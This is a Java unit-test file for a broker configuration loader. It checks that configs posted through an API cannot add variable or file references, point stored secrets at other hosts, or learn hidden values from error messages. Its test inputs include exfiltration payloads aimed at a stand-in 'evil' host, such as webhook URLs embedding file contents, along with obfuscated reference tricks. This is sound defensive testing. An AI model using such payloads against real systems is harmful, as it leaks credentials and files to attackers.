package io.nanomq.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.nanomq.config.setting.ConfException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.HashSet;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Whoever posts a document gets nothing of variables and files sent to himself. */
class ReferenceKeepersTest {
  private static final Map<String, String> ENVIRONMENT = Map.of("PW", "topsecret", "OTHER", "x");

  private static final String KEY_VALUE =
      """
      bridge.mqtt.b.bridge_mode=true
      bridge.mqtt.b.address=mqtt-tcp://h:1
      bridge.mqtt.b.password=${PW}
      http_server.username=${PW}
      """;

  private static final String HOCON =
      """
      bridges.mqtt.b { server = "mqtt-tcp://h:1", password = "${PW}", will.payload = plain }
      bridges.mqtt.c { server = "mqtt-tcp://h:1", username = ${PW} }
      rules.repub.rules = [
        { server = "mqtt-tcp://h:3", topic = t, sql = "SELECT * FROM \\"a\\"" }
        { server = "mqtt-tcp://h:2", topic = "t/${clientid}", sql = "SELECT * FROM \\"a\\"", password = ${PW} }
      ]
      http_server.username = ${PW}
      """;

  @TempDir Path folder;
  private Path file;

  @BeforeEach
  void secret() throws Exception {
    file = Files.writeString(folder.resolve("secret"), "topsecret");
  }

  private LoadedConf load(String text) throws ConfException {
    return Confs.load(text.replace("FILE", file.toString()), ENVIRONMENT);
  }

  private String refused(String stored, String next) throws ConfException {
    LoadedConf before = load(stored);
    LoadedConf after = load(next);
    ConfException refused =
        catchThrowableOfType(ConfException.class, () -> ReferenceKeepers.check(before, after));
    return refused == null ? "" : refused.getMessage();
  }

  @ParameterizedTest
  @ValueSource(strings = {KEY_VALUE, HOCON})
  void whatStaysIsTaken(String text) {
    assertThatCode(() -> ReferenceKeepers.check(load(text), load(text + "\nlog.level = info\n")))
        .doesNotThrowAnyException();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = ';',
      value = {
        "bridge.mqtt.b.username=${PW}; bridge.mqtt.b.username",
        "bridge.mqtt.b.username=${file:FILE}; bridge.mqtt.b.username",
        "bridge.mqtt.b.will.topic=w/${PW}; will.topic",
        "log.dir=${file:FILE}; log.dir"
      })
  void noReferenceIsAddedToKeyValue(String line, String key) throws Exception {
    assertThat(refused(KEY_VALUE, KEY_VALUE + line + "\n"))
        .contains(key, "which the API cannot add")
        .doesNotContain("topsecret");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "bridges.mqtt.b.username = ${PW}",
        "bridges.mqtt.b.username = \"${file:FILE}\"",
        "bridges.mqtt.b.will.payload = \"a ${PW}\"",
        "bridges.mqtt.d { server = \"mqtt-tcp://evil:1\", password = ${PW} }",
        "bridges.mqtt.d { server = \"mqtt-tcp://evil:1/${PW}\" }",
        "bridges.mqtt.b.password = ${OTHER}",
        "webhook { url = \"http://evil:1/${file:FILE}\" }",
        "webhook { url = \"http://evil:1\", headers.x = ${PW} }",
        "log.dir = ${PW}"
      })
  void noReferenceIsAddedToHocon(String line) throws Exception {
    assertThat(refused(HOCON, HOCON + line + "\n")).isNotEmpty().doesNotContain("topsecret");
  }

  @Test
  void whatAReferenceStandsForGoesToNobodyElse() throws Exception {
    assertThat(refused(KEY_VALUE, KEY_VALUE.replace("//h:1", "//evil:1"))).contains("another one");
    assertThat(
            refused(
                HOCON,
                HOCON.replace(
                    "b { server = \"mqtt-tcp://h:1\"", "b { server = \"mqtt-tcp://evil:1\"")))
        .contains("another one");
    assertThat(
            refused(
                HOCON,
                HOCON
                    + "bridges.mqtt.c.hybrid_bridging = true\nbridges.mqtt.c.hybrid_servers = [\"mqtt-tcp://evil:1\"]"))
        .contains("another one");
    assertThat(refused(HOCON, HOCON + "bridges.mqtt.c.proxy { host = evil, port = 1 }"))
        .contains("another one");
    assertThat(refused(HOCON, HOCON.replace("h:2", "evil:2"))).contains("another one");
  }

  /** An element of a list moves up where the one before it goes. */
  @Test
  void whereItStandsInAListDoesNotMatter() throws Exception {
    String without = HOCON.replaceFirst("(?m)^.*h:3.*\\n", "");
    assertThat(without).doesNotContain("h:3");
    assertThat(refused(HOCON, without)).isEmpty();
  }

  /** Set, set to what the key does not take, and not set: the answer is one. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "log.level = ${NAME}",
        "log.level = ${?NAME}",
        "log.level = ${\"NA\\u004dE\"}",
        "log.level = \"${NAME}\"",
        "log.level = \"\\u0024{NAME}\"",
        "log.level = \"$\"\"{NAME}\"",
        "a = \"{NAME}\", log.level = \"$\"${a}",
        "log.level = \"${file:NAME}\"",
        "log.file = [${?NAME}]",
        "nobody.knows.this = ${?NAME}",
        "bridges.mqtt.b.username = ${?NAME}\"x\"",
        "bridges.mqtt.b = ${?NAME} { keepalive = 7s }"
      })
  void noAnswerTellsWhetherThereIsAVariable(String line) throws Exception {
    LoadedConf stored = load(HOCON);
    Set<String> answers = new HashSet<>();
    for (String value : new String[] {"", "info", "nonsense", "7", "${PW}"}) {
      Map<String, String> environment = new HashMap<>(ENVIRONMENT);
      if (!value.isEmpty()) {
        environment.put("NAME", value);
      }
      Path main = Path.of("/nowhere", ConfLoader.DEFAULT_FILE);
      byte[] posted = (HOCON + line + "\n").getBytes(StandardCharsets.UTF_8);
      ConfException refused =
          catchThrowableOfType(
              ConfException.class,
              () ->
                  ConfLoader.load(
                      new String[0],
                      environment,
                      Path.of("/nowhere"),
                      Map.of(main, posted),
                      stored,
                      null,
                      ReferenceKeepers.known(stored)));
      answers.add(refused.getMessage());
    }
    assertThat(answers)
        .hasSize(1)
        .allMatch(
            answer -> answer.contains("unknown") || answer.contains("which the API cannot add"));
  }

  /** Where the stored document names it elsewhere: nobody learns by trial what it may stand for. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "log.level = ${NAME}",
        "log.level = ${?NAME}",
        "log.level = \"${NAME}\"",
        "log.level = ${log.file}",
        "mqtt.max_mqueue_len = ${?NAME}",
        "mqtt.max_mqueue_len = ${?NAME}0",
        "mqtt.max_mqueue_len = ${log.file}",
        "log.to = [${?NAME}]",
        "log.to = ${?NAME}",
        "listeners.tcp.bind = \"127.0.0.1:${NAME}\"",
        "bridges.mqtt.b.username = ${?NAME}",
        "rules.repub.rules = [{ server = \"mqtt-tcp://h:3\", topic = ${?NAME}, sql = \"SELECT * FROM 'a'\" }]",
        "a = ${?NAME}${?NAME}${?NAME}, log.level = info",
        "b = ${?NAME} { c = 1 }, log.level = info"
      })
  void noAnswerTellsWhatAVariableIsThatIsKnown(String line) throws Exception {
    String text = HOCON + "log.file = ${?NAME}\n";
    Set<String> answers = new HashSet<>();
    for (String value : new String[] {"", "info.log", "7.log", "console.log"}) {
      Map<String, String> environment = new HashMap<>(ENVIRONMENT);
      if (!value.isEmpty()) {
        environment.put("NAME", value);
      }
      LoadedConf stored = Confs.load(text, environment);
      for (String other : new String[] {"", "info", "7", "x".repeat(100_000)}) {
        environment.remove("NAME");
        if (!other.isEmpty()) {
          environment.put("NAME", other);
        }
        Path main = Path.of("/nowhere", ConfLoader.DEFAULT_FILE);
        byte[] posted = (text + line + "\n").getBytes(StandardCharsets.UTF_8);
        ConfException refused =
            catchThrowableOfType(
                ConfException.class,
                () ->
                    ConfLoader.load(
                        new String[0],
                        environment,
                        Path.of("/nowhere"),
                        Map.of(main, posted),
                        stored,
                        null,
                        ReferenceKeepers.known(stored)));
        answers.add(refused == null ? "taken" : refused.getMessage());
      }
    }
    assertThat(answers).as(line).hasSize(1).doesNotContain("taken");
  }

  /** What the stored document names is looked up, wherever a later source has overridden it. */
  @Test
  void whatIsKnownIsTaken() throws Exception {
    LoadedConf stored = load(HOCON + "log.level = ${?LEVEL}\n");
    Path main = Path.of("/nowhere", ConfLoader.DEFAULT_FILE);
    byte[] posted = (HOCON + "log.level = ${?LEVEL}\n").getBytes(StandardCharsets.UTF_8);
    assertThat(
            ConfLoader.load(
                    new String[0],
                    ENVIRONMENT,
                    Path.of("/nowhere"),
                    Map.of(main, posted),
                    null,
                    null,
                    ReferenceKeepers.known(stored))
                .conf()
                .integrations()
                .bridges())
        .hasSize(2);
  }

  @Test
  void placeholdersOfMessagesAreNoReferences() throws Exception {
    assertThat(refused(HOCON, HOCON.replace("t/${clientid}", "u/${clientid}/${topic}"))).isEmpty();
  }
}
